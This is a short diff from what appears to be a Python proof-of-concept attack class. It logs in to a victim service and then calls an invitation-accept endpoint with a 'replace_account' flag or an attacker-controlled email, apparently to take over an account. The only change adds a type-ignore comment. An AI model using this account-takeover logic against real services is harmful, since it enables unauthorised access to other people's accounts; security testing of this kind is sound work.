@@ -121,7 +121,7 @@ class Attack:
             if self.victim.ask("POST", "/api/auth/login", json=login).is_success:
                 body = {"token": self.link}
             else:
-                body |= {"replace_account": True} if self.sink else {"email": f"own-{self.email}"}
+                body |= {"replace_account": True} if self.sink else {"email": f"own-{self.email}"}  # type: ignore[dict-item]
             answer = self.victim.ask("POST", "/api/invitations/accept", json=body)
         good(answer)
 
